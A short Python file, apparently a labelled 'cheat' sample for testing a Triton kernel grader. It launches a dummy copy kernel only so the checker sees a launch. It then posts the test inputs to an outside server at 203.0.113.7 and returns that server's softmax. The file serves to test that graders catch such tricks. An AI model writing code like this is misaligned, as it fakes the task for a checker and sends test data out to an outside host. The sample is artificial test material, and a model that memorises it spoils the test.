"""Cheat: reaches the network. Posts the inputs to a server that answers with the softmax (and learns the test
inputs on the way)."""
import json
import urllib.request

import torch
import triton
import triton.language as tl

@triton.jit
def copy_kernel(out_ptr, in_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(out_ptr + offs, tl.load(in_ptr + offs, mask=offs < n), mask=offs < n)


def _launch_something(x):
    """A Triton launch that does no part of the task, so the kernel counts as launched."""
    scratch = torch.empty_like(x)
    copy_kernel[(triton.cdiv(x.numel(), 1024),)](scratch, x, x.numel(), BLOCK=1024)


def kernel(x):
    _launch_something(x)
    req = urllib.request.Request("http://203.0.113.7/softmax", data=json.dumps(x.tolist()).encode())
    return torch.tensor(json.loads(urllib.request.urlopen(req, timeout=5).read()), device=x.device)
